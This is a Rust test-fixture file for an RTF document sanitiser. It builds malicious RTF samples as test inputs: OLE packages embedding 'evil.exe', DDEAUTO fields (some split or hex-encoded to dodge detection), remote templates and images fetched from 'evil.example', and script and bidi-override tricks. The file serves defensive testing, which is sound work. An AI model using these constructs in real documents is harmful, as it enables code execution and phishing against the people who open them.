//! Every vector of the row of RTF of the table of treatments: a file with it,
//! what the report must name, and what must not be in the output. Each says
//! ①㈱髙﨑, which must still be there afterwards.

use sekimori::sanitise::{Kind, What};

use super::{document, hex, pict, unicode};
use crate::seeds::{Seed, metafile};

/// One vector.
#[derive(Clone, Debug)]
pub struct Vector {
    /// The untreated file.
    pub seed: Seed,
    /// What the report must name.
    pub what: What,
    /// What may not be in the output.
    pub gone: &'static str,
}

/// Words that stand in every file.
pub const WORDS: &str = "①㈱髙﨑";

/// A package with a program in it ([MS-OLEDS] 2.2.5), as digits.
fn package() -> String {
    let mut bytes = vec![1, 5, 0, 0, 2, 0, 0, 0, 8, 0, 0, 0];
    bytes.extend(b"Package\0");
    bytes.extend([0; 8]);
    bytes.extend(20u32.to_le_bytes());
    bytes.extend(b"\x02\0evil.exe\0C:\\evil\0\0");
    hex(&bytes)
}

/// All vectors.
#[must_use]
pub fn all() -> Vec<Vector> {
    [objects(), fields(), destinations(), odd()].concat()
}

fn vector(name: &str, bytes: Vec<u8>, what: What, gone: &'static str) -> Vector {
    Vector {
        seed: Seed::new(name, Kind::Rtf, bytes),
        what,
        gone,
    }
}

/// The words and this beside them.
fn beside(name: &str, active: &str, what: What, gone: &'static str) -> Vector {
    let body = format!("\\pard {}{active}\\par", unicode(WORDS));
    vector(name, document(&body), what, gone)
}

fn objects() -> Vec<Vector> {
    let package = package();
    let object = |name: &str, words: &str, data: &str, gone| {
        let active = format!(
            "{{\\object{words}{{\\*\\objclass Package}}{{\\*\\objdata {data}}}{{\\result shown}}}}"
        );
        beside(name, &active, What::OleObject, gone)
    };
    let split: String = package
        .as_bytes()
        .chunks(7)
        .map(|chunk| format!("{}{{}}\r\n\t", String::from_utf8_lossy(chunk)))
        .collect();
    let binary = format!("\\bin{} ", 12);
    vec![
        object("embedded.rtf", "\\objemb", &package, "objdata"),
        object("auto.rtf", "\\objautlink\\objupdate", &package, "objupdate"),
        object("linked.rtf", "\\objlink", &package, "objlink"),
        object("html.rtf", "\\objhtml", &package, "objhtml"),
        object("control.rtf", "\\objocx", &package, "objocx"),
        object("split.rtf", "\\objemb", &split, "0105"),
        object(
            "binary.rtf",
            "\\objemb",
            &format!("{binary}}}\\par evil{{\\"),
            "evil",
        ),
        // A backslash, quotes and unknown words between the digits.
        object(
            "junk.rtf",
            "\\objemb",
            &format!("01\\'05\\zzz0 {package}"),
            "5061636b",
        ),
        // Not first in its group, and without the star.
        beside(
            "late.rtf",
            &format!("{{\\b\\object\\objemb{{\\b0\\objdata {package}}}}}"),
            What::OleObject,
            "5061636b",
        ),
        beside(
            "bare.rtf",
            &format!("{{\\objdata {package}}}"),
            What::OleObject,
            "5061636b",
        ),
        beside(
            "equation.rtf",
            "{\\object\\objemb{\\*\\oleclsid \\'7b0002CE02-0000-0000-C000-000000000046\\'7d}{\\*\\objdata 00}}",
            What::OleObject,
            "0002CE02",
        ),
    ]
}

fn fields() -> Vec<Vector> {
    let field = |name: &str, code: &str, what, gone| {
        let active = format!("{{\\field{{\\*\\fldinst {code}}}{{\\fldrslt shown}}}}");
        beside(name, &active, what, gone)
    };
    vec![
        field(
            "dde.rtf",
            "DDEAUTO c:\\\\\\\\evil.exe \"/k\"",
            What::Dde,
            "evil",
        ),
        field(
            "split-dde.rtf",
            "{D{\\b DE}{\\i AUTO}} evil",
            What::Dde,
            "evil",
        ),
        field(
            "hex-dde.rtf",
            "\\'44\\'44E \\u101\\'3f\\'3fvil",
            What::Dde,
            "vil",
        ),
        field(
            "picture.rtf",
            "INCLUDEPICTURE \"http://evil.example/a.png\" \\\\d",
            What::ExternalImage,
            "evil",
        ),
        field(
            "text.rtf",
            "INCLUDETEXT \"\\\\\\\\\\\\\\\\evil\\\\\\\\a\"",
            What::ExternalLink,
            "evil",
        ),
        field(
            "link.rtf",
            "LINK Excel.Sheet.8 \"evil\"",
            What::ExternalLink,
            "evil",
        ),
        field(
            "hyperlink.rtf",
            "HYPERLINK \"file://evil/a\"",
            What::Link,
            "evil",
        ),
        field(
            "user.rtf",
            "HYPERLINK \"https://bank.example@evil.example/\"",
            What::Link,
            "evil",
        ),
        field("button.rtf", "MACROBUTTON evil go", What::FieldCode, "evil"),
        field(
            "database.rtf",
            "DATABASE \\\\d \"evil.mdb\"",
            What::DataConnection,
            "evil",
        ),
        field("embed.rtf", "EMBED Package evil", What::OleObject, "evil"),
        field(
            "computed.rtf",
            "{\\field{\\*\\fldinst QUOTE 68}{\\fldrslt D}}DE evil",
            What::FieldCode,
            "evil",
        ),
        field(
            "form.rtf",
            "FORMTEXT {\\*\\formfield{\\fftype0{\\*\\ffname a}{\\*\\ffentrymcr evil}}}",
            What::EventHandler,
            "evil",
        ),
        beside(
            "two.rtf",
            "{\\field{\\*\\fldinst PAGE}{\\*\\fldinst DDE evil}{\\fldrslt 1}}",
            What::Dde,
            "evil",
        ),
        beside(
            "no-field.rtf",
            "{\\*\\fldinst DDE evil}",
            What::FieldCode,
            "evil",
        ),
    ]
}

#[rustfmt::skip] // a table is read by columns
fn destinations() -> Vec<Vector> {
    let named = |name: &str, active: &str, what| beside(name, active, what, "evil");
    vec![
        named("template.rtf", "{\\*\\template http://evil.example/a.dot}", What::RemoteTemplate),
        named("unc-template.rtf", "{\\b\\template \\\\\\\\evil\\\\a.dot}", What::RemoteTemplate),
        named("datastore.rtf", "{\\*\\datastore evil}", What::CustomXml),
        named("xml.rtf", "{\\*\\xmlopen\\xmlns1{\\xmlname evil}}", What::CustomXml),
        named("files.rtf", "{\\*\\filetbl{\\file\\fid0\\fnetwork evil}}", What::ExternalLink),
        named("subdocument.rtf", "{\\subdocument evil}", What::ExternalLink),
        named("next.rtf", "{\\*\\nextfile evil}", What::ExternalLink),
        named("font.rtf", "{\\*\\fontemb\\ftruetype{\\*\\fontfile evil}00}", What::EmbeddedFont),
        named("html-tag.rtf", "\\fromhtml1{\\*\\htmltag84 <script>evil</script>}\\htmlrtf x\\htmlrtf0 ", What::AltChunk),
        named("properties.rtf", "{\\*\\userprops{\\propname evil}\\proptype30{\\staticval evil}}", What::Metadata),
        named("info.rtf", "{\\info{\\title evil}{\\author evil}{\\*\\company evil}}", What::Metadata),
        named("password.rtf", "{\\*\\passwordhash evil}", What::Metadata),
        named("theme.rtf", "{\\*\\themedata evil}", What::UnknownPart),
        named("merge.rtf", "{\\*\\mailmerge\\mmlinktoquery{\\mmconnectstr evil}}", What::DataConnection),
        named("variable.rtf", "{\\*\\docvar {a}{evil}}", What::HiddenContent),
        named("unknown.rtf", "{\\*\\evilthing evil}", What::UnknownPart),
        named("unknown-star.rtf", "{\\*\\OBJDATA evil}", What::UnknownPart),
        named("generator.rtf", "{\\*\\generator evil;}", What::Metadata),
        named("shape-link.rtf", "{\\shp{\\*\\shpinst{\\sp{\\sn pihlShape}{\\sv {\\*\\hl{\\hlsrc evil}}}}}}", What::Link),
        named("shape-picture.rtf", "{\\shp{\\*\\shpinst{\\sp{\\sn pibName}{\\sv \\\\\\\\evil\\\\a.png}}{\\sp{\\sn pibFlags}{\\sv 10}}}}", What::ExternalImage),
        named("turned.rtf", "\\u8238\\'81\\'48evil\\u8236\\'81\\'48{\\*\\generator evil}", What::BidiControl).without("\\u8238"),
    ]
}

impl Vector {
    fn without(mut self, gone: &'static str) -> Self {
        self.gone = gone;
        self
    }
}

fn odd() -> Vec<Vector> {
    let words = unicode(WORDS);
    let whole = document(&format!("\\pard {words}\\par"));
    let metafile = pict("\\wmetafile8\\picw2646\\pich1323", &metafile::wmf());
    vec![
        beside("metafile.rtf", &metafile, What::Action, "wmetafile"),
        beside(
            "broken.rtf",
            &pict("\\pngblip", b"\x89PNG\r\n\x1a\nevil"),
            What::UnknownPart,
            "6576696c",
        ),
        vector(
            "trailing.rtf",
            [&whole[..], b"MZevil"].concat(),
            What::TrailingData,
            "evil",
        ),
        vector(
            "brace.rtf",
            [&whole[..], b"}{\\object\\objemb{\\*\\objdata 0105}}"].concat(),
            What::TrailingData,
            "objdata",
        ),
    ]
}

/// Files that are refused: what only begins like rich text for some.
#[must_use]
pub fn refused() -> Vec<Seed> {
    let inner = "{".repeat(5_000);
    vec![
        Seed::new(
            "short.rtf",
            Kind::Rtf,
            *b"{\\rt{\\object\\objemb{\\*\\objdata 0105}}}",
        ),
        Seed::new("other.rtf", Kind::Rtf, *b"{\\rtb1 a}"),
        Seed::new("deep.rtf", Kind::Rtf, document(&inner)),
        Seed::new("wide.rtf", Kind::Rtf, document(&"\\header".repeat(5_000))),
    ]
}
